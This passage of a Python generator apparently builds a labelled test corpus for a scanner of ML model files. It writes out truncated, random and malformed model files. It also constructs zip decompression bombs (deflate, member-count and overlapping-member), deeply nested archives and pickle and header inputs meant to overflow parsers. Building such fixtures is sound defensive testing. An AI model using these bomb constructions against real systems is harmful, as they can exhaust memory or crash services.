        cuts = [len(data) // 2, len(data) - 1, 7] if ctx.full else [len(data) // 2]
        for cut in cuts:
            W(
                f"truncated/{name.replace('.', f'-at{cut}.', 1)}",
                data[:cut],
                "truncated",
                fmt,
                f"{fmt} truncated to {cut} of {len(data)} bytes",
            )
    for ext in [
        ".pkl",
        ".pt",
        ".bin",
        ".safetensors",
        ".npy",
        ".gguf",
        ".onnx",
        ".h5",
        ".keras",
        ".joblib",
        ".zip",
        "",
    ]:
        W(f"empty/empty{ext or '-noext'}", b"", "empty", "empty", f"zero-byte file named *{ext}")
        if ctx.full or ext in (".pkl", ".pt", ".safetensors"):
            W(
                f"random/random{ext or '-noext'}",
                ctx.rng.randbytes(ctx.rng.randint(64, 4096)),
                "random-bytes",
                "raw",
                f"random bytes named *{ext}",
            )
    magics = [
        ("zip", b"PK\x03\x04"),
        ("npy", b"\x93NUMPY\x01\x00"),
        ("gguf", b"GGUF\x03\x00\x00\x00"),
        ("pickle-p5", b"\x80\x05"),
        ("hdf5", b"\x89HDF\r\n\x1a\n"),
        ("7z", b"7z\xbc\xaf\x27\x1c"),
        ("gzip", b"\x1f\x8b\x08"),
        ("safetensors", struct.pack("<Q", 64) + b'{"'),
        ("torch-legacy", b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."),
    ]
    for name, magic in magics:
        W(
            f"garbage-after-magic/{name}.bin",
            magic + ctx.rng.randbytes(512),
            "garbage-after-magic",
            name,
            f"{name} magic followed by random bytes",
        )
    # zip structure abuse
    good_zip = zip_bytes([("a.txt", b"hello" * 10)])
    bad = bytearray(good_zip)
    cd = bad.find(b"PK\x01\x02")
    struct.pack_into("<I", bad, cd + 24, 0xFFFFFFFF)  # uncompressed size
    struct.pack_into("<I", bad, cd + 20, 0x7FFFFFFF)  # compressed size
    W(
        "zip/impossible-sizes.zip",
        bytes(bad),
        "zip-impossible-sizes",
        "zip",
        "central directory declares 2 GiB compressed / 4 GiB uncompressed for a 50-byte member",
    )
    bad2 = bytearray(good_zip)
    eocd = bad2.rfind(b"PK\x05\x06")
    struct.pack_into("<I", bad2, eocd + 16, 0xFFFFFF00)
    W(
        "zip/cd-offset-out-of-range.zip",
        bytes(bad2),
        "zip-impossible-sizes",
        "zip",
        "end-of-central-directory points past the end of the file",
    )
    bad3 = bytearray(good_zip)
    struct.pack_into("<H", bad3, eocd + 10, 65535)
    W(
        "zip/entry-count-lie.zip",
        bytes(bad3),
        "zip-impossible-sizes",
        "zip",
        "EOCD claims 65535 entries, has 1",
    )
    n_members = ctx.n(2000, 10000)
    W(
        "zip/many-members.zip",
        zip_bytes([(f"m/{i:05d}.pkl", b"N.") for i in range(n_members)]),
        "zip-bomb",
        "zip",
        f"{n_members} tiny members (member-count bomb)",
    )
    W(
        "zip/deflate-bomb.zip",
        zip_bytes([("zeros.bin", b"\x00" * ctx.n(16, 64) * 1024 * 1024)], compress=True),
        "zip-bomb",
        "zip",
        f"{ctx.n(16, 64)} MiB of zeros deflated into one member (ratio ~1000:1)",
    )
    lie = bytearray(zip_bytes([("archive/data.pkl", pk)]))
    for sig, off in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        p = lie.find(sig)
        struct.pack_into("<I", lie, p + off, 0xFFFFFFF0)
    W("zip/declared-huge.pt", bytes(lie), "zip-bomb", "torch-zip", "member declares ~4 GiB uncompressed size")
    nested = pk
    for depth in range(20):
        nested = zip_bytes([(f"level{19 - depth}.zip" if depth else "model.pkl", nested)])
    W(
        "zip/nested-depth-20.zip",
        nested,
        "deep-nesting",
        "zip",
        "zip nested 20 levels deep around a benign pickle",
    )
    tnested = pk
    for depth in range(ctx.n(8, 20)):
        tnested = gzip_bytes(tar_bytes([(f"l{depth}.tar.gz" if depth else "model.pkl", tnested)]))
    W("archive/nested-tar-gz.tar.gz", tnested, "deep-nesting", "tar.gz", "tar.gz nested many levels deep")
    W(
        "zip/overlapping-members.zip",
        _overlapping_zip(),
        "zip-overlap",
        "zip",
        "two central-directory entries pointing at the same local header (overlapping-file bomb pattern)",
    )
    # safetensors lies
    hdr = json.dumps({"w": {"dtype": "F32", "shape": [8, 8], "data_offsets": [0, 256]}}).encode()
    W(
        "safetensors/header-len-too-big.safetensors",
        struct.pack("<Q", 10**12) + hdr + b"\0" * 256,
        "safetensors-header-lie",
        "safetensors",
        "8-byte header length far larger than the file",
    )
    W(
        "safetensors/header-len-2-63.safetensors",
        struct.pack("<Q", 2**63) + hdr,
        "safetensors-header-lie",
        "safetensors",
        "header length 2**63",
    )
    hdr2 = json.dumps({"w": {"dtype": "F32", "shape": [1000, 1000], "data_offsets": [0, 4000000]}}).encode()
    W(
        "safetensors/offsets-past-eof.safetensors",
        struct.pack("<Q", len(hdr2)) + hdr2 + b"\0" * 64,
        "safetensors-header-lie",
        "safetensors",
        "data_offsets end far past the end of the file",
    )
    hdr3 = json.dumps(
        {
            "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
            "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
        }
    ).encode()
    W(
        "safetensors/overlapping.safetensors",
        struct.pack("<Q", len(hdr3)) + hdr3 + b"\0" * 24,
        "safetensors-header-lie",
        "safetensors",
        "two tensors with overlapping data_offsets",
    )
    hdr4 = json.dumps({"w": {"dtype": "F32", "shape": [3, 3], "data_offsets": [0, 16]}}).encode()
    W(
        "safetensors/shape-mismatch.safetensors",
        struct.pack("<Q", len(hdr4)) + hdr4 + b"\0" * 16,
        "safetensors-header-lie",
        "safetensors",
        "shape [3,3] F32 (36 bytes) but offsets span 16 bytes",
    )
    W(
        "safetensors/not-json.safetensors",
        struct.pack("<Q", 12) + b"{not json!!}" + b"\0" * 8,
        "safetensors-header-lie",
        "safetensors",
        "header is not JSON",
    )
    hdr5 = json.dumps({"w": {"dtype": "F99", "shape": [2], "data_offsets": [0, 8]}}).encode()
    W(
        "safetensors/bad-dtype.safetensors",
        struct.pack("<Q", len(hdr5)) + hdr5 + b"\0" * 8,
        "safetensors-header-lie",
        "safetensors",
        "unknown dtype F99",
    )
    # pickle structure abuse
    W(
        "pickle/unknown-opcode.pkl",
        b"\x80\x04\xff\xfe.",
        "bad-pickle",
        "pickle",
        "unknown opcode bytes 0xff 0xfe",
    )
    W("pickle/no-stop.pkl", pk[:-1], "bad-pickle", "pickle", "valid opcodes but no STOP")
    W(
        "pickle/huge-binunicode.pkl",
        b"\x80\x03X\xff\xff\xff\x7fabc.",
        "bad-pickle",
        "pickle",
        "BINUNICODE declares a 2 GiB string in a 12-byte file",
    )
    W(
        "pickle/huge-frame.pkl",
        b"\x80\x04\x95" + struct.pack("<Q", 2**62) + b"N.",
        "bad-pickle",
        "pickle",
        "FRAME declares 2**62 bytes",
    )
    W(
        "pickle/memo-get-undefined.pkl",
        b"\x80\x02h\x05.",
        "bad-pickle",
        "pickle",
        "BINGET of an undefined memo index",
    )
    W(
        "pickle/deep-nesting.pkl",
        b"\x80\x02" + b"(" * 100000 + b"l" * 100000 + b".",
        "bad-pickle",
        "pickle",
        "100000 nested MARK/LIST (stack/recursion stress)",
    )
    W("pickle/stack-underflow.pkl", b"\x80\x02R.", "bad-pickle", "pickle", "REDUCE on an empty stack")
    W("pickle/proto-99.pkl", b"\x80\x63N.", "bad-pickle", "pickle", "PROTO 99")
    # npy / gguf / onnx / h5 / keras structure abuse
    W(
        "numpy/header-lie.npy",
        b"\x93NUMPY\x01\x00" + struct.pack("<H", 60000) + b"{'descr': '<f8'",
        "bad-npy",
        "npy",
        "npy header length 60000 in a tiny file",
    )
    W(
        "numpy/shape-lie.npy",
        npy_header("<f8", (10**9,)) + b"\0" * 64,
        "bad-npy",
        "npy",
        "npy header says 1e9 float64 elements; 64 bytes of data",
    )
    W(
        "numpy/bad-descr.npy",
        npy_header("<zz", (4,)) + b"\0" * 32,
        "bad-npy",
        "npy",
        "unparseable dtype descr",
    )
    W(
        "gguf/kv-count-huge.gguf",
        b"GGUF" + struct.pack("<IQQ", 3, 0, 2**62),
        "bad-gguf",
        "gguf",
        "GGUF header declares 2**62 KV pairs",
    )
    W(
        "gguf/string-len-huge.gguf",
        b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 2**63) + b"abc",
        "bad-gguf",
        "gguf",
        "first KV key claims length 2**63",
    )
    W("gguf/version-99.gguf", b"GGUF" + struct.pack("<IQQ", 99, 0, 0), "bad-gguf", "gguf", "GGUF version 99")
    W(
        "onnx/garbage.onnx",
        b"\x08\x08\x12" + ctx.rng.randbytes(300),
        "bad-onnx",
        "onnx",
        "ONNX-looking protobuf prefix then garbage",
    )
    W(
        "onnx/truncated.onnx",
        _onnx_mlp(rs).SerializeToString()[:500],
        "bad-onnx",
        "onnx",
        "ONNX model truncated",
    )
    W(
        "keras/no-config.keras",
        zip_bytes([("metadata.json", b'{"keras_version": "3.6.0"}')]),
        "bad-keras",
        "keras-v3",
        ".keras zip without config.json",
    )
    W(
        "keras/config-not-json.keras",
        zip_bytes([("config.json", b"{{{"), ("metadata.json", b"{}")]),
        "bad-keras",
        "keras-v3",
        ".keras zip whose config.json is not JSON",
    )
    h5 = _h5_bytes(lambda f: f.attrs.__setitem__("model_config", "{}"), ctx.root / ".tmp-m.h5")
    W("keras/truncated.h5", h5[: len(h5) // 3], "truncated", "keras-h5", "HDF5 file truncated to a third")
    W(
        "savedmodel/garbage/saved_model.pb",
        b"\x08\x01\x12\xff\xff\xff\xff\x0f" + ctx.rng.randbytes(64),
        "bad-savedmodel",
        "tf-savedmodel",
        "saved_model.pb with a length-delimited field longer than the file",
    )


def _overlapping_zip() -> bytes:
    data = b"A" * 1000
    local = (
        struct.pack(
            "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0x21, zlib.crc32(data), len(data), len(data), 5, 0
        )
        + b"a.txt"
        + data
    )
    cds = b""
    for name in (b"a.txt", b"b.txt"):
        cds += (
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                0,
                0,
                0x21,
                zlib.crc32(data),
                len(data),
                len(data),
                len(name),
                0,
                0,
                0,
                0,
                0,
                0,
            )
            + name
        )
    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 2, 2, len(cds), len(local), 0)
    return local + cds + eocd


# ---------------------------------------------------------------------------------------------------------
# Driver
# ---------------------------------------------------------------------------------------------------------


def generate(
    out_dir: str | Path, scale: str = "small", marker: str = DEFAULT_MARKER, seed: int = 0
) -> list[dict[str, str]]:
    """Write the corpus to out_dir and return the manifest list (also written to out_dir/manifest.json)."""
    if scale not in ("small", "full"):
        raise ValueError(f"scale must be 'small' or 'full', not {scale!r}")
    root = Path(out_dir)
    root.mkdir(parents=True, exist_ok=True)
    for label in LABELS:
        if (root / label).exists() and any((root / label).iterdir()):
            raise FileExistsError(f"{root / label} is not empty; use a fresh output directory")
    ctx = Ctx(root=root, scale=scale, marker=marker, seed=seed, rng=random.Random(f"mlwarden-corpus-{seed}"))
    import numpy as np
    import torch

    torch.set_num_threads(max(1, min(2, torch.get_num_threads())))
    np.random.seed(seed)  # some libraries draw from the legacy global RNG
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        gen_malicious(ctx)
        gen_benign(ctx)
        gen_malformed(ctx)
    manifest = sorted(ctx.manifest, key=lambda e: e["path"])
    (root / "manifest.json").write_text(
        json.dumps(manifest, indent=1, ensure_ascii=False) + "\n", encoding="utf-8"
    )
    return manifest


def summarize(manifest: list[dict[str, str]], root: Path) -> str:
    lines = []
    labels = collections.Counter(e["label"] for e in manifest)
    lines.append("labels: " + ", ".join(f"{k}={labels[k]}" for k in LABELS))
    for label in LABELS:
        fams = collections.Counter(e["family"] for e in manifest if e["label"] == label)
        lines.append(
            f"{label} families ({len(fams)}): " + ", ".join(f"{k}={v}" for k, v in sorted(fams.items()))
        )
    size = sum((root / e["path"]).stat().st_size for e in manifest)
    lines.append(f"files: {len(manifest)}  total size: {size / 1e6:.1f} MB")
    return "\n".join(lines)


def digest(root: Path) -> str:
    h = hashlib.sha256()
    for p in sorted(q for q in root.rglob("*") if q.is_file()):
        h.update(p.relative_to(root).as_posix().encode() + b"\0" + p.read_bytes())
    return h.hexdigest()


def _load_examples_module() -> types.ModuleType:
    path = Path(__file__).with_name("gen_examples.py")
    spec = importlib.util.spec_from_file_location("gen_examples", path)
    assert spec is not None and spec.loader is not None
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod


def main(argv: Sequence[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    ap.add_argument("out_dir", nargs="?", help="output directory (must not already contain a corpus)")
    ap.add_argument("--marker", default=DEFAULT_MARKER, help="file the harmless payloads would create")
    ap.add_argument("--scale", choices=("small", "full"), default="small")
    ap.add_argument("--seed", type=int, default=0)
    ap.add_argument("--examples", metavar="DIR", help="write the small stdlib-only examples folder instead")
    args = ap.parse_args(argv)
    if args.examples:
        _load_examples_module().generate_examples(Path(args.examples))
        return 0
    if not args.out_dir:
        ap.error("OUT_DIR is required (or use --examples DIR)")
    t0 = time.perf_counter()
    manifest = generate(args.out_dir, args.scale, args.marker, args.seed)
    print(summarize(manifest, Path(args.out_dir)))
    print(f"generated in {time.perf_counter() - t0:.1f}s")
    return 0


if __name__ == "__main__":
    sys.exit(main())
